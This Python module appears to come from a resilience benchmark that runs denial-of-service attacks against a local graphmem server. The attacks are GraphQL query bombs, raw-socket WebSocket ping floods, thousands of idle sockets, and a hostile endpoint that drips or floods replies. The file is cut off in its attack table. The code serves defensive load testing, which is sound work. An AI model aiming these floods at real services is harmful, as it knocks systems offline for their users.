"""The attacks of bench.tenancy, one per row 26-39 of docs/security.md's table: each sends its
row's request shape in a loop until told to stop, and counts what the server answered.

An attack runs in a process of its own (``run``), so that its work shares neither this
process's interpreter nor the other tenant's probe's. Whatever the server does (an answer, a
refusal, a 429, a closed socket, a reset connection) is an outcome counted in a ``Tally``, never
a failure of the bench. A few pieces are shared with bench.tenancy:

- ``Target``: where the server is and the keys the attacker holds;
- ``Hostile``: an HTTP server on 127.0.0.1 that answers every request badly (one byte every
  2 s, 200 MB, JSON nested 100,000 deep, a JSON list), standing in for a chat endpoint or,
  to the Python client, for a graphmem service;
- ``client_check``: row 14, graphmem.Client against a ``Hostile`` server.

WebSocket attacks write the protocol by hand on raw sockets (``upgrade``, ``frame``,
``read_frames``), since a library would read and answer pings the attacker means to ignore.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import re
import select
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from multiprocessing.queues import Queue
from multiprocessing.synchronize import Event
from pathlib import Path
from typing import Any, Final

import httpx

#: How many loops post a document at once, for the rows that name no number: one key's
#: share of the read threads (one per core on this machine) twice over.
CONCURRENT: Final = 4
SUBSCRIPTION: Final = "subscription { memoryChanged { id } }"
SPACES: Final = " " * 301 + "topic"
MIB: Final = 2**20
#: Seconds an attack waits, once stopped, for the answers it is still owed.
DRAIN_S: Final = 5.0


@dataclass(frozen=True)
class Target:
    """Where the attacked server listens and what the attacker holds (None: no key)."""

    host: str
    port: int
    key: str | None
    read_only: str | None
    fact_id: str

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    def headers(self, key: str | None = None) -> dict[str, str]:
        token = key or self.key
        return {"Authorization": f"Bearer {token}"} if token else {}


class Tally:
    """What an attack saw: outcomes counted, and a few named figures (the largest kept)."""

    def __init__(self, ready: Event | None = None) -> None:
        self.outcomes: Counter[str] = Counter()
        self.notes: dict[str, Any] = {}
        self._ready = ready
        self._lock = threading.Lock()

    def under_way(self) -> None:
        """The attack is set up and running: the other tenant's probe may start."""
        if self._ready is not None:
            self._ready.set()

    def count(self, outcome: str, n: int = 1) -> None:
        if n:
            with self._lock:
                self.outcomes[outcome] += n

    def note(self, name: str, value: Any) -> None:
        """Keep ``value`` under ``name``, or the larger of it and what is there."""
        with self._lock:
            old = self.notes.get(name)
            numbers = isinstance(old, int | float) and isinstance(value, int | float)
            self.notes[name] = max(old, value) if numbers else value

    def add(self, name: str, value: float) -> None:
        with self._lock:
            self.notes[name] = self.notes.get(name, 0) + value


@dataclass(frozen=True)
class Attack:
    """One row: how to run it against which server, and what the other tenant does meanwhile."""

    row: int
    name: str
    what: str
    loop: Callable[[Target, Event, Tally], None]
    #: "keyed" (127.0.0.1 with keys), "public" (0.0.0.0 with keys, contacted at 127.0.0.1)
    #: or "keyless" (127.0.0.1, no live key: the probe names its namespace by header).
    server: str = "keyed"
    #: What the chat endpoint the server is given does (a ``Hostile`` mode), if any.
    chat: str | None = None
    #: The other tenant also stores 2,000 facts at a time, timed (bench.tenancy.WRITE_EVERY_S).
    writes: bool = False
    #: Who attacks: "key", "read-only key" or "no key".
    attacker: str = "key"
    environment: dict[str, str] = field(default_factory=dict)


def run(name: str, target: Target, stop: Event, ready: Event, out: Queue[dict[str, Any]]) -> None:
    """Run attack ``name`` until ``stop`` (``ready`` once it is under way); put its tally."""
    tally = Tally(ready)
    began = time.monotonic()
    try:
        ATTACKS[name].loop(target, stop, tally)
    except Exception as error:  # the bench reports it rather than losing the row
        tally.count(f"bench error {type(error).__name__}: {str(error)[:80]}")
    ready.set()
    tally.notes["seconds"] = round(time.monotonic() - began, 1)
    out.put({"outcomes": dict(tally.outcomes), "notes": tally.notes})


# ----------------------------------------------------------------------- GraphQL documents

_TYPE_REF: Final = "kind name ofType { kind name ofType { kind name ofType { kind name } } }"
#: Six small fragments fanning out over types, fields, arguments, ofType chains and enum
#: values, as the 2,209-byte document of the attack did.
_FRAGMENTS: Final = f"""
fragment R on __Type {{ {_TYPE_REF} }}
fragment I on __InputValue {{ name description defaultValue type {{ ...R }} }}
fragment F on __Field {{ name description isDeprecated args {{ ...I }} type {{ ...R }} }}
fragment E on __EnumValue {{ name description isDeprecated deprecationReason }}
fragment D on __Directive {{ name description locations args {{ ...I }} }}
fragment T on __Type {{ kind name description fields(includeDeprecated: true) {{ ...F }}
  inputFields {{ ...I }} interfaces {{ ...R }} enumValues(includeDeprecated: true) {{ ...E }}
  possibleTypes {{ ...R }} }}
"""
#: Heavier: each field's type unwrapped and its own fields listed, twice over (types x fields
#: x fields x fields), as deep as graphql_max_depth allows when it counts through ``__`` fields.
_DEEP_FRAGMENTS: Final = """
fragment R on __Type { kind name ofType { kind name ofType { kind name ofType { kind name } } } }
fragment I on __InputValue { name defaultValue type { ...R } }
fragment G on __Field { name args { ...I } type { ...R } }
fragment H on __Type { fields(includeDeprecated: true) { ...G } ofType { fields { ...G }
  ofType { fields { ...G } ofType { fields { ...G } } } } }
fragment F on __Field { name args { ...I } type { ...R ...H } }
fragment T on __Type { kind name fields(includeDeprecated: true) { ...F } inputFields { ...I }
  interfaces { ...R } enumValues(includeDeprecated: true) { name } possibleTypes { ...R } }
"""


def introspection(aliases: int = 30, *, deep: bool = False) -> str:
    """``aliases`` aliases of ``__schema { types { ...T } directives { ... } }``."""
    directives = "name" if deep else "...D"
    picks = " ".join(
        f"a{n}: __schema {{ types {{ ...T }} directives {{ {directives} }} }}"
        for n in range(aliases)
    )
    return f"query {{ {picks} }}\n{_DEEP_FRAGMENTS if deep else _FRAGMENTS}"


def is_one_of(aliases: int = 30) -> str:
    """``isOneOf`` asked of wrapped types: each field's and input field's type, unwrapped."""
    chain = "isOneOf ofType { isOneOf ofType { isOneOf } }"
    one = f"__schema {{ types {{ fields {{ type {{ {chain} }} }} inputFields {{ type {{ {chain} }} }} }} }}"
    return "query { " + " ".join(f"a{n}: {one}" for n in range(aliases)) + " }"


def graphql_outcome(response: httpx.Response) -> str:
    """A GraphQL answer in a word: its HTTP status unless 200, else its first error's code
    (or a payload's ``error``), else ``ok``."""
    if response.status_code != 200:
        return f"HTTP {response.status_code}"
    content = response.content
    if len(content) > MIB:  # large answers are searched, not parsed: the attacker's CPU is shared
        found = re.search(rb'"code":\s*"([A-Z_]+)"', content[-64 * 1024 :]) or re.search(
            rb'"code":\s*"([A-Z_]+)"', content[: 64 * 1024]
        )
        return found.group(1).decode() if found else "ok"
    try:
        body = response.json()
    except ValueError:
        return "not JSON"
    errors = body.get("errors") if isinstance(body, dict) else None
    if errors:
        return str((errors[0].get("extensions") or {}).get("code", "error without code"))
    for payload in (body.get("data") or {}).values():
        if isinstance(payload, dict) and payload.get("error"):
            return str(payload["error"].get("code"))
        if isinstance(payload, dict) and payload.get("problem"):
            return "problem: " + _gist(payload["problem"])
    return "ok"


def _gist(text: str) -> str:
    """A message without its numbers, so that like outcomes count together."""
    return re.sub(r"[0-9][0-9,.]*", "N", re.sub(r"https?://\S+", "URL", text))[:70]


def _post_loop(
    target: Target,
    stop: Event,
    tally: Tally,
    body: dict[str, Any],
    *,
    key: str | None = None,
    clients: int = CONCURRENT,
    timeout: float = 120.0,
) -> None:
    """``clients`` threads posting ``body`` to /graphql back to back until ``stop``."""

    def loop() -> None:
        with httpx.Client(base_url=target.url, headers=target.headers(key), timeout=timeout) as c:
            while not stop.is_set():
                began = time.perf_counter()
                try:
                    response = c.post("/graphql", json=body)
                except httpx.HTTPError as error:
                    tally.count(type(error).__name__)
                    time.sleep(0.1)
                    continue
                tally.count(graphql_outcome(response))
                tally.note("largest answer bytes", len(response.content))
                tally.note("slowest answer s", round(time.perf_counter() - began, 2))
                if response.status_code == 429:
                    time.sleep(min(5.0, float(response.headers.get("retry-after", 1))))

    threads = [threading.Thread(target=loop, daemon=True) for _ in range(clients)]
    for thread in threads:
        thread.start()
    tally.under_way()
    stop.wait()
    # Answers still awaited are not waited for long: the process's end drops their sockets.
    deadline = time.monotonic() + DRAIN_S
    for thread in threads:
        thread.join(max(0.0, deadline - time.monotonic()))
    tally.count("still waiting at the end", sum(t.is_alive() for t in threads))


# --------------------------------------------------------------------------- the GraphQL rows


def _introspection(target: Target, stop: Event, tally: Tally) -> None:
    """Row 1: the heaviest introspection document the server accepts (of the plain and the
    deep fragments, the most aliases up to 30 that are not refused), posted in a loop."""
    heaviest: tuple[int, str, str] = (
        0,
        "none accepted: 30 aliases, deep",
        introspection(30, deep=True),
    )
    with httpx.Client(base_url=target.url, headers=target.headers(target.read_only)) as client:
        for deep in (True, False):
            low, high = 0, 30  # low: the most aliases known accepted
            while low < high:
                aliases = (low + high + 1) // 2
                document = introspection(aliases, deep=deep)
                try:
                    response = client.post("/graphql", json={"query": document}, timeout=120)
                    accepted = graphql_outcome(response) == "ok"
                except httpx.HTTPError:
                    accepted = False
                if accepted:
                    low = aliases
                    name = f"{aliases} aliases{', deep' if deep else ''}, {len(document):,} bytes"
                    heaviest = max(heaviest, (len(response.content), name, document))
                else:
                    high = aliases - 1
            tally.note(f"most aliases accepted{', deep' if deep else ''}", low)
    tally.note("document", heaviest[1])
    _post_loop(target, stop, tally, {"query": heaviest[2]}, key=target.read_only)


def _is_one_of(target: Target, stop: Event, tally: Tally) -> None:
    """Row 6: isOneOf of wrapped types under 30 aliases, read-only key."""
    document = is_one_of()
    tally.note("document bytes", len(document))
    _post_loop(target, stop, tally, {"query": document}, key=target.read_only)


def nested(first: int, aliases: int = 1) -> str:
    """Three levels of ``first``-link pages under ``aliases`` aliases."""
    inner = (
        f"fact(id: $id) {{ links(first: {first}) {{ edges {{ neighbour {{ links(first: {first}) "
        f"{{ edges {{ neighbour {{ links(first: {first}) {{ edges {{ neighbourId }} }} }} }} }} "
        "} } } }"
    )
    return "query($id: ID!) { " + " ".join(f"a{n}: {inner}" for n in range(aliases)) + " }"


#: The nested-links bomb of the first attack run, and the heaviest such document accepted.
NESTED_LINKS: Final = nested(1000, 30)
HEAVIEST: Final = nested(78)


def _heaviest(target: Target, stop: Event, tally: Tally) -> None:
    """The heaviest accepted links document (three nested pages of 78), one loop."""
    body = {"query": HEAVIEST, "variables": {"id": target.fact_id}}
    _post_loop(target, stop, tally, body, clients=1)


def _reflect(clients: int) -> Callable[[Target, Event, Tally], None]:
    """Rows 3 and 9: ``reflect`` against the hostile chat endpoint, ``clients`` at once."""

    def attack(target: Target, stop: Event, tally: Tally) -> None:
        body = {"query": "mutation { reflect { requests problem error { code message } } }"}
        _post_loop(target, stop, tally, body, clients=clients, timeout=600)

    return attack


def _nothing(target: Target, stop: Event, tally: Tally) -> None:
    """No attacker: the control of the rows whose other tenant also writes."""
    tally.under_way()
    stop.wait()


def _space_queries(target: Target, stop: Event, tally: Tally) -> None:
    """Row 10: search, recall and the MCP search and recall tools, each query 301 spaces then
    a word; outcomes per face."""
    faces: list[tuple[str, str, dict[str, Any]]] = [
        ("graphql search", "/graphql", _graphql("search(query: $q) { score }", "q")),
        ("graphql recall", "/graphql", _graphql("recall(prompt: $q) { tokens }", "q")),
        ("mcp memory_recall", "/mcp", _tool_call("memory_recall", {"query": SPACES})),
        ("mcp memory_context", "/mcp", _tool_call("memory_context", {"prompt": SPACES})),
    ]
    tally.under_way()
    with httpx.Client(base_url=target.url, headers=_mcp_headers(target), timeout=60) as client:
        while not stop.is_set():
            for face, path, body in faces:
                try:
                    response = client.post(path, json=body)
                except httpx.HTTPError as error:
                    tally.count(f"{face}: {type(error).__name__}")
                    continue
                outcome = graphql_outcome(response) if path == "/graphql" else mcp_outcome(response)
                tally.count(f"{face}: {outcome}")


def _graphql(selection: str, variable: str) -> dict[str, Any]:
    return {
        "query": f"query(${variable}: String!) {{ {selection} }}",
        "variables": {variable: SPACES},
    }


# ------------------------------------------------------------------------------- MCP (row 4)


def _tool_call(tool: str, arguments: dict[str, Any]) -> dict[str, Any]:
    return {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {"name": tool, "arguments": arguments},
    }


def _mcp_headers(target: Target) -> dict[str, str]:
    return {**target.headers(), "Accept": "application/json, text/event-stream"}


def mcp_outcome(response: httpx.Response) -> str:
    """An answer of the stateless /mcp endpoint in a word (as ``graphql_outcome``)."""
    if response.status_code != 200:
        return f"HTTP {response.status_code}"
    try:
        body = response.json()
    except ValueError:
        return "not JSON"
    if "error" in body:
        return f"JSON-RPC {body['error'].get('code')}"
    result = body.get("result") or {}
    if result.get("isError"):
        return str(((result.get("structuredContent") or {}).get("error") or {}).get("code"))
    return "ok"


def _mcp_recall(target: Target, stop: Event, tally: Tally) -> None:
    """Row 4: 48 clients of one key looping memory_recall (limit 1,000, graph_depth 6)."""
    body = _tool_call(
        "memory_recall", {"query": "fact about topic", "limit": 1000, "graph_depth": 6}
    )

    waiting = 0

    async def client(http: httpx.AsyncClient) -> None:
        nonlocal waiting
        while not stop.is_set():
            waiting += 1
            try:
                response = await http.post("/mcp", json=body)
            except httpx.HTTPError as error:
                tally.count(type(error).__name__)
                await asyncio.sleep(0.1)
                continue
            finally:
                waiting -= 1
            tally.count(mcp_outcome(response))
            if response.status_code == 429:
                await asyncio.sleep(min(5.0, float(response.headers.get("retry-after", 1))))

    async def main() -> None:
        limits = httpx.Limits(max_connections=48)
        async with httpx.AsyncClient(
            base_url=target.url, headers=_mcp_headers(target), timeout=120, limits=limits
        ) as http:
            tally.under_way()
            tasks = [asyncio.create_task(client(http)) for _ in range(48)]
            await _stopping(stop)
            tally.count("still waiting at the end", waiting)
            await _until_stop(stop, tasks)

    asyncio.run(main())


# ------------------------------------------------------------------- WebSockets by hand


def upgrade(target: Target, protocol: str = "graphql-transport-ws") -> bytes:
    """The HTTP request that opens a WebSocket at /graphql."""
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        f"GET /graphql HTTP/1.1\r\nHost: {target.host}:{target.port}\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
        f"Sec-WebSocket-Protocol: {protocol}\r\n\r\n"
    ).encode()


def frame(opcode: int, payload: bytes, mask: bytes = b"\0\0\0\0") -> bytes:
    """A client's frame, final, masked with ``mask`` (the zero mask, which the protocol
    allows, leaves a large payload as it is)."""
    n = len(payload)
    if n < 126:
        head = bytes([0x80 | opcode, 0x80 | n])
    elif n < 65536:
        head = bytes([0x80 | opcode, 0x80 | 126]) + n.to_bytes(2, "big")
    else:
        head = bytes([0x80 | opcode, 0x80 | 127]) + n.to_bytes(8, "big")
    if mask != b"\0\0\0\0":
        payload = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    return head + mask + payload


def text(message: dict[str, Any] | str) -> bytes:
    """A text frame of a graphql-transport-ws message."""
    body = message if isinstance(message, str) else json.dumps(message)
    return frame(0x1, body.encode())


def read_frames(buffer: bytearray) -> Iterator[tuple[int, bytes]]:
    """The whole (unmasked) server frames at the start of ``buffer``, removed from it."""
    while len(buffer) >= 2:
        n, at = buffer[1] & 0x7F, 2
        if n == 126:
            n, at = int.from_bytes(buffer[2:4], "big"), 4
        elif n == 127:
            n, at = int.from_bytes(buffer[2:10], "big"), 10
        if len(buffer) < at + n:
            return
        opcode, payload = buffer[0] & 0x0F, bytes(buffer[at : at + n])
        del buffer[: at + n]
        yield opcode, payload


def _close_code(payload: bytes) -> str:
    return f"close {int.from_bytes(payload[:2], 'big')}" if len(payload) >= 2 else "close"


def _handshake_status(response: bytes) -> str:
    line = response.split(b"\r\n", 1)[0].decode(errors="replace")
    parts = line.split()
    return f"upgrade {parts[1]}" if len(parts) > 1 else "upgrade: no answer"


async def _open(
    target: Target, timeout: float = 30.0
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter, bytearray, str]:
    """A raw WebSocket at /graphql: its streams, what came after the 101, and the status."""
    reader, writer = await asyncio.open_connection(target.host, target.port, limit=64 * MIB)
    writer.write(upgrade(target))
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), timeout)
    return reader, writer, bytearray(), _handshake_status(head)


async def _until_closed(reader: asyncio.StreamReader, buffer: bytearray, tally: Tally) -> str:
    """Read server frames until a close frame or the end of the stream: which it was."""
    while True:
        chunk = await reader.read(MIB)
        if not chunk:
            return "closed without a close frame"
        buffer += chunk
        for opcode, payload in read_frames(buffer):
            if opcode == 0x8:
                return _close_code(payload)
            if opcode == 0x1:
                tally.count("message " + _message_type(payload))


def _message_type(payload: bytes) -> str:
    found = re.search(rb'"type":\s*"([a-z_]+)"', payload[:200])
    return found.group(1).decode() if found else "?"


async def _stopping(stop: Event) -> None:
    while not stop.is_set():
        await asyncio.sleep(0.1)


async def _until_stop(stop: Event, tasks: list[asyncio.Task[None]]) -> None:
    await _stopping(stop)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


# ----------------------------------------------------------------------- row 2: ping flood


def _ping_flood(sockets: int) -> Callable[[Target, Event, Tally], None]:
    def attack(target: Target, stop: Event, tally: Tally) -> None:
        threads = [
            threading.Thread(target=_flood_one, args=(target, stop, tally)) for _ in range(sockets)
        ]
        for thread in threads:
            thread.start()
        tally.under_way()
        for thread in threads:
            thread.join()

    return attack


def _flood_one(target: Target, stop: Event, tally: Tally) -> None:
    """One keyless socket: the upgrade, then ping frames as fast as the socket takes them,
    never reading; reconnect when the server closes it."""
    batch = frame(0x9, b"p" * 125, os.urandom(4)) * 256  # whole frames: a send may stop anywhere
    view = memoryview(batch)
    while not stop.is_set():
        try:
            sock = socket.create_connection((target.host, target.port), timeout=10)
        except OSError as error:
            tally.count(f"connect {type(error).__name__}")
            time.sleep(0.5)
            continue
        opened, at = time.monotonic(), 0
        try:
            sock.sendall(upgrade(target))
            sock.setblocking(False)
            tally.count("sockets opened")
            while not stop.is_set():
                _, writable, _ = select.select([], [sock], [], 0.5)
                if writable:
                    sent = sock.send(view[at:])
                    tally.add("bytes of pings sent", sent)
                    at = (at + sent) % len(batch)
            tally.count("held until the end")
        except OSError as error:
            tally.count(f"closed by the server ({type(error).__name__})")
        finally:
            tally.note("longest held s", round(time.monotonic() - opened, 1))
            sock.close()


# --------------------------------------------------------------------- row 5: subscriptions


def _subscriptions(reading: bool) -> Callable[[Target, Event, Tally], None]:
    """50 sockets of one key, 20 ``memoryChanged`` subscriptions each, then 1,000 facts
    written every 5 s; subscribers that read (and count) or never read."""

    def attack(target: Target, stop: Event, tally: Tally) -> None:
        asyncio.run(_subscribe_and_write(target, stop, tally, reading))

    return attack


async def _subscribe_and_write(target: Target, stop: Event, tally: Tally, reading: bool) -> None:
    subscribed: list[asyncio.Event] = [asyncio.Event() for _ in range(50)]
    sockets: list[tuple[asyncio.StreamWriter, asyncio.StreamReader]] = []

    async def subscriber(n: int) -> None:
        """Subscribe on a socket of its own, again a second after the server ends it (a
        silent subscriber keeps its socket and stops)."""
        while not stop.is_set():
            try:
                kept = await _subscribed_socket(target, tally, reading, subscribed[n])
            finally:
                subscribed[n].set()
            if kept is not None:
                sockets.append(kept)
                return
            await asyncio.sleep(1)

    async def writer_loop() -> None:
        waits = [asyncio.create_task(s.wait()) for s in subscribed]
        await asyncio.wait(waits, timeout=60)
        for wait in waits:
            wait.cancel()
        tally.under_way()
        async with httpx.AsyncClient(
            base_url=target.url, headers=target.headers(), timeout=120
        ) as http:
            batch = 0
            while not stop.is_set():
                facts = [
                    {"text": f"Event fact {batch}-{n} about topic {n % 7}", "dedup": False}
                    for n in range(1000)
                ]
                document = (
                    "mutation($i: [FactInput!]!) { storeFacts(inputs: $i) { error { code } } }"
                )
                try:
                    response = await http.post(
                        "/graphql", json={"query": document, "variables": {"i": facts}}
                    )
                    tally.count("1,000 facts written: " + graphql_outcome(response))
                except httpx.HTTPError as error:
                    tally.count(f"write {type(error).__name__}")
                batch += 1
                for _ in range(50):
                    if stop.is_set():
                        break
                    await asyncio.sleep(0.1)

    tasks = [asyncio.create_task(subscriber(n)) for n in range(50)]
    tasks.append(asyncio.create_task(writer_loop()))
    await _until_stop(stop, tasks)
    # What the silent subscribers were sent, read now that the measurement is over.
    await asyncio.gather(*(_unread(writer, reader, tally) for writer, reader in sockets))


async def _unread(writer: asyncio.StreamWriter, reader: asyncio.StreamReader, tally: Tally) -> None:
    """Count what a silent subscriber's socket holds: events waiting, and how it was closed."""
    buffer = bytearray()
    with contextlib.suppress(OSError):
        while chunk := await asyncio.wait_for(reader.read(MIB), 0.5):
            buffer += chunk
    received = list(read_frames(buffer))
    closes = [_close_code(p) for o, p in received if o == 0x8]
    tally.count(f"silent socket: {closes[0] if closes else 'open'}")
    tally.add(
        "events waiting in silent sockets",
        sum(_message_type(p) == "next" for o, p in received if o == 0x1),
    )
    writer.close()


async def _subscribed_socket(
    target: Target, tally: Tally, reading: bool, subscribed: asyncio.Event
) -> tuple[asyncio.StreamWriter, asyncio.StreamReader] | None:
    """A socket with 20 subscriptions (``subscribed`` set once they are sent): read until the
    server ends it (None), or, for a silent subscriber, returned unread."""
    try:
        reader, writer, buffer, status = await _open(target)
    except (OSError, asyncio.IncompleteReadError) as error:
        tally.count(f"connect {type(error).__name__}")
        return None
    tally.count(status)
    kept = None
    try:
        if status != "upgrade 101":
            return None
        writer.write(text({"type": "connection_init", "payload": target.headers()}))
        if not await _acknowledged(reader, buffer):
            tally.count("not acknowledged")
            return None
        tally.count("acknowledged")
        for sub in range(20):
            message = {"id": str(sub), "type": "subscribe", "payload": {"query": SUBSCRIPTION}}
            writer.write(text(message))
        await writer.drain()
        subscribed.set()
        if not reading:
            kept = writer, reader
            return kept
        tally.count("socket " + await _until_closed(reader, buffer, tally))
    except (OSError, asyncio.IncompleteReadError) as error:
        tally.count(f"socket {type(error).__name__}")
    finally:
        if kept is None:
            writer.close()
    return None


async def _acknowledged(reader: asyncio.StreamReader, buffer: bytearray) -> bool:
    while True:
        chunk = await asyncio.wait_for(reader.read(65536), 15)
        if not chunk:
            return False
        buffer += chunk
        for opcode, payload in read_frames(buffer):
            if opcode == 0x8:
                return False
            if opcode == 0x1 and _message_type(payload) == "connection_ack":
                return True


# ----------------------------------------------------------------- rows 7 and 8: before a key


def _idle_sockets(target: Target, stop: Event, tally: Tally) -> None:
    """Row 7: 3,000 keyless sockets that never send connection_init, each reopened when the
    server closes it (after a second's pause when it was refused outright)."""

    async def one(first: asyncio.Event) -> None:
        while not stop.is_set():
            try:
                reader, writer, buffer, status = await _open(target)
            except (OSError, asyncio.IncompleteReadError) as error:
                tally.count(f"connect {type(error).__name__}")
                first.set()
                await asyncio.sleep(1)
                continue
            tally.count(status)
            first.set()
            opened = time.monotonic()
            try:
                if status == "upgrade 101":
                    tally.count(await _until_closed(reader, buffer, tally))
                    tally.note("longest held s", round(time.monotonic() - opened, 1))
                else:
                    await asyncio.sleep(1)
            except OSError as error:
                tally.count(type(error).__name__)
            finally:
                writer.close()

    async def main() -> None:
        firsts = [asyncio.Event() for _ in range(3000)]
        tasks = [asyncio.create_task(one(f)) for f in firsts]
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(asyncio.gather(*(f.wait() for f in firsts)), 30)
        tally.under_way()
        await _until_stop(stop, tasks)

    asyncio.run(main())


def _keyless_requests(target: Target, stop: Event, tally: Tally) -> None:
    """Row 7's control: the same 3,000 clients and pace, each a keyless POST of
    ``{ namespace }`` (refused before any work), a second apart: what refusals cost alone."""
    body = b'{"query": "{ namespace }"}'
    request = (
        f"POST /graphql HTTP/1.1\r\nHost: {target.host}:{target.port}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
        "Connection: close\r\n\r\n"
    ).encode() + body

    async def one() -> None:
        while not stop.is_set():
            try:
                reader, writer = await asyncio.open_connection(target.host, target.port)
                writer.write(request)
                status = (await asyncio.wait_for(reader.readline(), 30)).split()
                tally.count(f"HTTP {status[1].decode()}" if len(status) > 1 else "no answer")
                writer.close()
            except (OSError, asyncio.IncompleteReadError) as error:
                tally.count(type(error).__name__)
            await asyncio.sleep(1)

    async def main() -> None:
        tasks = [asyncio.create_task(one()) for _ in range(3000)]
        tally.under_way()
        await _until_stop(stop, tasks)

    asyncio.run(main())


def _init_frames(
    payload: Callable[[], str], sockets: int
) -> Callable[[Target, Event, Tally], None]:
    """Row 8: keyless connection_init frames carrying ``payload()``, ``sockets`` loops, each
    opening a socket, sending the frame and waiting for the server's close."""

    def attack(target: Target, stop: Event, tally: Tally) -> None:
        message = frame(0x1, ('{"type":"connection_init","payload":' + payload() + "}").encode())

        async def one() -> None:
            while not stop.is_set():
                try:
                    reader, writer, buffer, status = await _open(target)
                except (OSError, asyncio.IncompleteReadError) as error:
                    tally.count(f"connect {type(error).__name__}")
                    await asyncio.sleep(1)
                    continue
                tally.count(status)
                try:
                    writer.write(message)
                    await writer.drain()
                    tally.count(await asyncio.wait_for(_until_closed(reader, buffer, tally), 30))
                except OSError as error:
                    tally.count(type(error).__name__)
                finally:
                    writer.close()

        async def main() -> None:
            tasks = [asyncio.create_task(one()) for _ in range(sockets)]
            tally.under_way()
            await _until_stop(stop, tasks)

        tally.note("frame bytes", len(message))
        asyncio.run(main())

    return attack


# ------------------------------------------------------------------ a hostile HTTP endpoint


class Hostile:
    """An HTTP/1.1 server on 127.0.0.1 answering every POST as ``mode`` says:

    - ``drip``: a chat completion, one byte every 2 s;
    - ``huge``: a chat completion of ``huge_mb`` MB (its content one long string);
    - ``deep``: JSON nested 100,000 deep;
    - ``list``: a JSON list.
    """

    def __init__(self, mode: str, huge_mb: int = 200) -> None:
        self.mode = mode
        self.huge_mb = huge_mb
        self._sock = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._sock.getsockname()[1]
        self._closing = threading.Event()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def __enter__(self) -> Hostile:
        threading.Thread(target=self._accept, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._closing.set()
        self._sock.close()

    def _accept(self) -> None:
        while not self._closing.is_set():
            try:
                conn, _ = self._sock.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(conn,), daemon=True).start()

    def _answer(self, conn: socket.socket) -> None:
        with conn, contextlib.suppress(OSError):
            while _read_request(conn):
                if self.mode == "drip":
                    body = json.dumps(_completion('{"patterns": []}')).encode()
                    conn.sendall(_head(len(body)))
                    for byte in body:
                        if self._closing.wait(2.0):
                            return
                        conn.sendall(bytes([byte]))
                elif self.mode == "huge":
                    chunk = b"a" * MIB
                    start, end = (
                        b'{"choices": [{"message": {"role": "assistant", "content": "',
                        b'"}}]}',
                    )
                    conn.sendall(_head(len(start) + self.huge_mb * MIB + len(end)) + start)
                    for _ in range(self.huge_mb):
                        conn.sendall(chunk)
                    conn.sendall(end)
                else:
                    body = b"[" * 100_000 + b"]" * 100_000 if self.mode == "deep" else b"[]"
                    conn.sendall(_head(len(body)) + body)


def _read_request(conn: socket.socket) -> bool:
    """Read one request (head and body) from ``conn``: False at the end of the stream."""
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = conn.recv(65536)
        if not chunk:
            return False
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = re.search(rb"(?i)content-length:\s*(\d+)", head)
    remaining = int(length.group(1)) - len(body) if length else 0
    while remaining > 0:
        chunk = conn.recv(min(remaining, 65536))
        if not chunk:
            return False
        remaining -= len(chunk)
    return True


def _head(length: int) -> bytes:
    return (
        f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
    ).encode()


def _completion(content: str) -> dict[str, Any]:
    return {
        "id": "x",
        "object": "chat.completion",
        "model": "stub",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": content}}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
    }


# ------------------------------------------------------------------------------ row 14


def client_check(mode: str, out: Queue[dict[str, Any]]) -> None:
    """graphmem.Client (timeout 5 s, no retries) searching a ``Hostile`` server in ``mode``
    (``huge`` 150 MB): the exception it raised, how long it took and how much this process's
    peak memory grew. Run in a fresh process, so that its peak is its own."""
    from graphmem import Client

    with Hostile(mode, huge_mb=150) as server:
        client = Client(server.url, api_key="gm_bench", namespace="bench", timeout=5, retries=0)
        before = _peak_mib(os.getpid())
        began = time.perf_counter()
        try:
            client.search("anything")
            raised = "nothing raised"
        except Exception as error:  # what it raises is the measurement
            raised = f"{type(error).__name__}: {str(error)[:90]}"
        out.put(
            {
                "mode": mode,
                "raised": raised,
                "seconds": round(time.perf_counter() - began, 2),
                "peak_growth_mib": round(_peak_mib(os.getpid()) - before, 1),
            }
        )


def _peak_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return float("nan")


ATTACKS: Final = {
    a.name: a
    for a in (
        Attack(
            1,
            "introspection",
            "the heaviest `__schema { types { ...T } }` accepted (up to 30 aliases, six fragments)",
            _introspection,
            attacker="read-only key",
        ),
        Attack(
            2,
            "ping-flood",
            "WebSocket upgrade, then ping frames, never reading",
            _ping_flood(1),
            server="public",
            attacker="no key",
        ),
        Attack(
            2,
            "ping-flood-4",
            "the same on 4 sockets",
            _ping_flood(4),
            server="public",
            attacker="no key",
        ),
        Attack(
            3,
            "slow-chat",
            "4 `reflect` at once, chat dripping 1 byte / 2 s, llm_timeout 5",
            _reflect(4),
            chat="drip",
            writes=True,
            environment={"GRAPHMEM_LLM_TIMEOUT": "5"},
        ),
        Attack(
            3,
            "writes-alone",
            "control: no attacker, the other tenant's writes of slow-chat alone",
            _nothing,
            writes=True,
            attacker="nobody",
        ),
        Attack(
            4, "mcp-recall", "48 MCP clients: memory_recall limit 1,000, graph_depth 6", _mcp_recall
        ),
        Attack(
            5,
            "subscriptions",
